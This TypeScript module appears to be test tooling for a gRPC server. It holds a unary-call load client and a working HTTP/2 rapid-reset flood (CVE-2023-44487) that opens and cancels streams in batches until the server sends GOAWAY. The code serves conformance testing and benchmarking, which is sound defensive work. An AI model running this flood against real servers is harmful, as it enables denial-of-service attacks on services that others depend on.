/**
 * The two clients of issue 22, for the rapid-reset conformance test and bench/rapid-reset.ts: a
 * well-behaved one making unary calls on one connection (with @grpc/grpc-js 1.10.3 it resets every
 * stream after its response), and a rapid-reset flood (CVE-2023-44487: streams reset without
 * waiting for any response).
 */
import * as fs from 'node:fs';
import * as http2 from 'node:http2';
import type * as grpc from '@grpc/grpc-js';

/** A gRPC client of any grpc-js version: only its unary call is used. */
export type UnaryClient = Pick<grpc.Client, 'makeUnaryRequest'>;

/** What a run of {@link unaryCalls} should do. */
export interface CallPlan {
  /** Full method path, e.g. `/protos.Endorser/ProcessProposal`. */
  method: string;
  /** Calls in flight at a time (closed-loop lanes). */
  inFlight: number;
  /** Stop starting calls after this many. */
  calls?: number;
  /** Stop starting calls at this time (ms since the epoch). */
  until?: number;
  /** Stop starting calls once one ends with this status code. */
  stopOnCode?: number;
  /** Status codes that are not errors (default: only OK). */
  expected?: number[];
  /** The request message, raw (default `ping`). */
  request?: Buffer;
}

/** How the calls of a run ended. */
export interface CallOutcome {
  /** Calls that ended. */
  done: number;
  /** Status code → calls that ended with it. */
  codes: Map<number, number>;
  /** The first call that ended with a code not in `expected`: `code message`. */
  firstError?: string;
  /** Wall time of the run. */
  ms: number;
}

const raw = (b: Buffer): Buffer => b;

/** Unary calls of `plan.method` on `client`, `plan.inFlight` at a time, until a stop condition holds. */
export async function unaryCalls(client: UnaryClient, plan: CallPlan): Promise<CallOutcome> {
  if (plan.calls === undefined && plan.until === undefined)
    throw new Error('unaryCalls needs calls or until: it would never stop');
  const expected = new Set(plan.expected ?? [0]);
  const request = plan.request ?? Buffer.from('ping');
  const started = Date.now();
  const out: CallOutcome = { done: 0, codes: new Map(), ms: 0 };
  let begun = 0;
  let stop = false;
  const more = (): boolean =>
    !stop &&
    (plan.calls === undefined || begun < plan.calls) &&
    (plan.until === undefined || Date.now() < plan.until);
  const one = (): Promise<void> =>
    new Promise((resolve) => {
      client.makeUnaryRequest(plan.method, raw, raw, request, (err: grpc.ServiceError | null) => {
        const code = err ? (err.code ?? -1) : 0;
        out.codes.set(code, (out.codes.get(code) ?? 0) + 1);
        if (!expected.has(code) && out.firstError === undefined) out.firstError = `${code} ${err?.message}`;
        if (code === plan.stopOnCode) stop = true;
        out.done++;
        resolve();
      });
    });
  const lane = async (): Promise<void> => {
    while (more()) {
      begun++;
      await one();
    }
  };
  await Promise.all(Array.from({ length: plan.inFlight }, lane));
  out.ms = Date.now() - started;
  return out;
}

/** How a {@link rapidResetFlood} ended. */
export interface FloodOutcome {
  /** Streams opened (and reset). */
  opened: number;
  /** The code of the server's GOAWAY, if it sent one. */
  goawayCode?: number;
  /** Wall time of the flood. */
  ms: number;
}

/** Where a flood goes: `host:port`, the TLS CA and the name the server's certificate carries. */
export interface FloodTarget {
  address: string;
  caCertPath: string;
  host: string;
}

/**
 * Opens streams of `method` 100 per turn of the event loop and resets each once its HEADERS are
 * out, never reading an answer; stops at GOAWAY, when the session closes, or after `max` streams.
 */
export async function rapidResetFlood(
  target: FloodTarget,
  method: string,
  max: number,
): Promise<FloodOutcome> {
  const started = Date.now();
  const session = http2.connect(`https://${target.address}`, {
    ca: fs.readFileSync(target.caCertPath),
    servername: target.host,
  });
  session.on('error', () => undefined);
  const out: FloodOutcome = { opened: 0, ms: 0 };
  session.on('goaway', (code: number) => (out.goawayCode = code));
  try {
    while (out.goawayCode === undefined && !session.closed && !session.destroyed && out.opened < max) {
      const batch: http2.ClientHttp2Stream[] = [];
      for (let i = 0; i < 100; i++, out.opened++) {
        const req = session.request({
          ':method': 'POST',
          ':path': method,
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        req.on('error', () => undefined);
        batch.push(req);
      }
      await new Promise((r) => setImmediate(r));
      for (const req of batch) req.close(http2.constants.NGHTTP2_CANCEL);
      await new Promise((r) => setImmediate(r));
    }
    out.ms = Date.now() - started;
    return out;
  } finally {
    session.destroy();
  }
}
